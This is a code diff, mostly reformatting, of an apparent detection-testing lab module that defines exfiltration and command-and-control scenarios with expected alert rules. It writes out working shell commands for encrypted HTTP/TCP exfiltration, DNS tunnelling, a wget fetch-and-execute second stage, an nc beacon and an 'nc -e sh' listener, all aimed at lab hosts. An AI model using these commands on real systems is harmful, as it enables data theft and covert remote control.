@@ -10,9 +10,9 @@ from __future__ import annotations
 
 import os
 import time
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Callable
 
 from emulation.lab import SECOND_IP, SINK_IP, VAULT_IP, Lab
 
@@ -30,21 +30,27 @@ ENC = "openssl enc -aes-256-cbc -pbkdf2 -pass pass:lab"
 
 def https_post(host: str, src: str, path: str = "/upload") -> str:
     """POST a file over TLS: curl when the image has it, else openssl."""
-    return (f"if command -v curl >/dev/null; then curl -sk --max-time 30 --data-binary @{src} https://{host}{path} >/dev/null; "
-            f"else (printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
-            f"$(wc -c < {src}); cat {src}) | openssl s_client -quiet -no_ign_eof -connect {host}:443 >/dev/null 2>&1; fi")
+    return (
+        f"if command -v curl >/dev/null; then curl -sk --max-time 30 --data-binary @{src} https://{host}{path} >/dev/null; "
+        f"else (printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
+        f"$(wc -c < {src}); cat {src}) | openssl s_client -quiet -no_ign_eof -connect {host}:443 >/dev/null 2>&1; fi"
+    )
 
 
 def http_post(host: str, port: int, src: str, path: str) -> str:
     """POST a file over plain HTTP with nc (busybox wget --post-file stops
     at the first NUL byte, so binary bodies need this)."""
-    return (f"(printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
-            f"$(wc -c < {src}); cat {src}) | nc {host} {port} >/dev/null")
+    return (
+        f"(printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
+        f"$(wc -c < {src}); cat {src}) | nc {host} {port} >/dev/null"
+    )
 
 
 def https_get(host: str) -> str:
-    return (f"printf 'GET /api/v1/items HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n' | "
-            f"openssl s_client -quiet -no_ign_eof -connect {host}:443 >/dev/null 2>&1")
+    return (
+        f"printf 'GET /api/v1/items HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n' | "
+        f"openssl s_client -quiet -no_ign_eof -connect {host}:443 >/dev/null 2>&1"
+    )
 
 
 # --- what the benign workloads do (learn phase and benign scenarios) -------------
@@ -52,7 +58,9 @@ def https_get(host: str) -> str:
 API_CALL = https_get(SINK_IP)
 LOG_TEXT = f"head -c 20000 /data/text.txt | nc {SINK_IP} 9001"
 LOG_GZIP = "head -c 30000 /data/text.txt | gzip > /tmp/l.gz; " + http_post(SINK_IP, 8080, "/tmp/l.gz", "/logs")
-BACKUP_RUN = f"head -c 400000 /dev/urandom > /tmp/b; {ENC} -in /tmp/b -out /tmp/b.enc; " + https_post(VAULT_IP, "/tmp/b.enc", "/vault")
+BACKUP_RUN = f"head -c 400000 /dev/urandom > /tmp/b; {ENC} -in /tmp/b -out /tmp/b.enc; " + https_post(
+    VAULT_IP, "/tmp/b.enc", "/vault"
+)
 
 
 def loop(body: str, every: float, times: int) -> str:
@@ -80,11 +88,11 @@ class Ctx:
 @dataclass(frozen=True)
 class Scenario:
     name: str
-    attack: str                    # ATT&CK id, or "benign"
-    expect: tuple[str, ...]        # rules that must all fire ((): must stay silent / blind spot)
+    attack: str  # ATT&CK id, or "benign"
+    expect: tuple[str, ...]  # rules that must all fire ((): must stay silent / blind spot)
     description: str
     run: Callable[[Ctx], None]
-    blind_spot: bool = False       # undetected is the documented expectation
+    blind_spot: bool = False  # undetected is the documented expectation
 
     @property
     def benign(self) -> bool:
@@ -127,8 +135,11 @@ def _http(ctx: Ctx) -> None:
 
 
 def _dns(ctx: Ctx) -> None:
-    ctx.run(API, f"{ENC} -in /data/text.txt | head -c 2400 | od -An -tx1 | tr -d ' \\n' | fold -w 56 | "
-                 f"while read l; do nslookup $l.t.exfil-lab.test {SINK_IP} >/dev/null 2>&1; done")
+    ctx.run(
+        API,
+        f"{ENC} -in /data/text.txt | head -c 2400 | od -An -tx1 | tr -d ' \\n' | fold -w 56 | "
+        f"while read l; do nslookup $l.t.exfil-lab.test {SINK_IP} >/dev/null 2>&1; done",
+    )
 
 
 def _spike(ctx: Ctx) -> None:
@@ -144,12 +155,16 @@ def _slow(ctx: Ctx) -> None:
 
 
 def _multistage(ctx: Ctx) -> None:
-    ctx.run(API, f"wget -q -O /tmp/.cache-update http://{SINK_IP}/stage2 && chmod +x /tmp/.cache-update && "
-                 "/tmp/.cache-update")
+    ctx.run(
+        API,
+        f"wget -q -O /tmp/.cache-update http://{SINK_IP}/stage2 && chmod +x /tmp/.cache-update && /tmp/.cache-update",
+    )
 
 
-STAGE2 = (f"#!/bin/sh\n# stage two: beacon to a second host\n"
-          f"i=0; while [ $i -lt 8 ]; do echo \"hb $i $(hostname)\" | nc {SECOND_IP} 4444; i=$((i+1)); sleep 1; done\n").encode()
+STAGE2 = (
+    f"#!/bin/sh\n# stage two: beacon to a second host\n"
+    f'i=0; while [ $i -lt 8 ]; do echo "hb $i $(hostname)" | nc {SECOND_IP} 4444; i=$((i+1)); sleep 1; done\n'
+).encode()
 
 
 def _pivot(ctx: Ctx) -> None:
@@ -158,8 +173,11 @@ def _pivot(ctx: Ctx) -> None:
     # before the client has sent a byte
     _db, ip = ctx.start(DB, "nc -ll -p 7000 -e sh -c 'cat > /dev/null'")
     # retry until the db listens (a loaded machine may take a while to start it)
-    ctx.run(API, f"i=0; until head -c 200000 /dev/urandom | nc {ip} 7000; do i=$((i+1)); "
-                 "[ $i -ge 50 ] && exit 1; usleep 200000; done")  # the db stays up until cleanup
+    ctx.run(
+        API,
+        f"i=0; until head -c 200000 /dev/urandom | nc {ip} 7000; do i=$((i+1)); "
+        "[ $i -ge 50 ] && exit 1; usleep 200000; done",
+    )  # the db stays up until cleanup
 
 
 def _burst(ctx: Ctx) -> None:
@@ -190,36 +208,78 @@ def _b_text(ctx: Ctx) -> None:
 
 
 SCENARIOS: tuple[Scenario, ...] = (
-    Scenario("seed-openssl-https", "T1048.001", ("SL-EXF-005", "SL-EXF-006"),
-             "the seed's `docker run --rm -v /data:/mnt/data my-exfil-container`: openssl enc of a mounted "
-             "file, POSTed over HTTPS", _seed),
-    Scenario("encrypted-raw-tcp", "T1048.001", ("SL-EXF-002",),
-             "a known workload streams openssl-encrypted bytes over raw TCP to port 9000", _raw),
-    Scenario("encrypted-http-post", "T1048.001", ("SL-EXF-003",),
-             "an encrypted file as the body of a plain-HTTP POST", _http),
-    Scenario("dns-tunnel", "T1048.001", ("SL-EXF-003",),
-             "encrypted data, hex-encoded into DNS query names", _dns),
-    Scenario("encrypted-volume-spike", "T1048.001", ("SL-EXF-001",),
-             "a known API client sends 3 MB over its usual HTTPS destination: only the volume is unusual", _spike),
-    Scenario("encrypted-new-destination", "T1048.001", ("SL-EXF-004",),
-             "a known API client sends 1.2 MB over HTTPS to a host it never talked to", _new_dest),
-    Scenario("slow-exfil", "T1048.001", (),
-             "12 KB trickled over one connection in 12 s: the strategy's stated blind spot", _slow,
-             blind_spot=True),
-    Scenario("multi-stage-c2", "T1104", ("SL-C2-001", "SL-C2-002"),
-             "fetch a second stage over HTTP into /tmp, run it, it beacons to a second host", _multistage),
-    Scenario("inter-container-pivot", "T1104", ("SL-C2-003",),
-             "a known API client connects to another container it never talked to", _pivot),
-    Scenario("lifecycle-burst", "T1104", ("SL-C2-004",),
-             "a burst of short container lifecycles, one of them sending to a new host", _burst),
-    Scenario("benign-encrypted-backup", "benign", (),
-             "the nightly backup job: 400 KB encrypted over HTTPS to the allowed vault", _b_backup),
-    Scenario("benign-compressed-logs", "benign", (),
-             "gzip-compressed logs POSTed over HTTP, as learned", _b_logs),
-    Scenario("benign-https-api", "benign", (),
-             "steady small HTTPS API calls, as learned", _b_api),
-    Scenario("benign-plaintext-logs", "benign", (),
-             "plain-text log shipping over TCP, as learned", _b_text),
+    Scenario(
+        "seed-openssl-https",
+        "T1048.001",
+        ("SL-EXF-005", "SL-EXF-006"),
+        "the seed's `docker run --rm -v /data:/mnt/data my-exfil-container`: openssl enc of a mounted "
+        "file, POSTed over HTTPS",
+        _seed,
+    ),
+    Scenario(
+        "encrypted-raw-tcp",
+        "T1048.001",
+        ("SL-EXF-002",),
+        "a known workload streams openssl-encrypted bytes over raw TCP to port 9000",
+        _raw,
+    ),
+    Scenario(
+        "encrypted-http-post", "T1048.001", ("SL-EXF-003",), "an encrypted file as the body of a plain-HTTP POST", _http
+    ),
+    Scenario("dns-tunnel", "T1048.001", ("SL-EXF-003",), "encrypted data, hex-encoded into DNS query names", _dns),
+    Scenario(
+        "encrypted-volume-spike",
+        "T1048.001",
+        ("SL-EXF-001",),
+        "a known API client sends 3 MB over its usual HTTPS destination: only the volume is unusual",
+        _spike,
+    ),
+    Scenario(
+        "encrypted-new-destination",
+        "T1048.001",
+        ("SL-EXF-004",),
+        "a known API client sends 1.2 MB over HTTPS to a host it never talked to",
+        _new_dest,
+    ),
+    Scenario(
+        "slow-exfil",
+        "T1048.001",
+        (),
+        "12 KB trickled over one connection in 12 s: the strategy's stated blind spot",
+        _slow,
+        blind_spot=True,
+    ),
+    Scenario(
+        "multi-stage-c2",
+        "T1104",
+        ("SL-C2-001", "SL-C2-002"),
+        "fetch a second stage over HTTP into /tmp, run it, it beacons to a second host",
+        _multistage,
+    ),
+    Scenario(
+        "inter-container-pivot",
+        "T1104",
+        ("SL-C2-003",),
+        "a known API client connects to another container it never talked to",
+        _pivot,
+    ),
+    Scenario(
+        "lifecycle-burst",
+        "T1104",
+        ("SL-C2-004",),
+        "a burst of short container lifecycles, one of them sending to a new host",
+        _burst,
+    ),
+    Scenario(
+        "benign-encrypted-backup",
+        "benign",
+        (),
+        "the nightly backup job: 400 KB encrypted over HTTPS to the allowed vault",
+        _b_backup,
+    ),
+    Scenario("benign-compressed-logs", "benign", (), "gzip-compressed logs POSTed over HTTP, as learned", _b_logs),
+    Scenario("benign-https-api", "benign", (), "steady small HTTPS API calls, as learned", _b_api),
+    Scenario("benign-plaintext-logs", "benign", (), "plain-text log shipping over TCP, as learned", _b_text),
 )
 
 BY_NAME = {s.name: s for s in SCENARIOS}
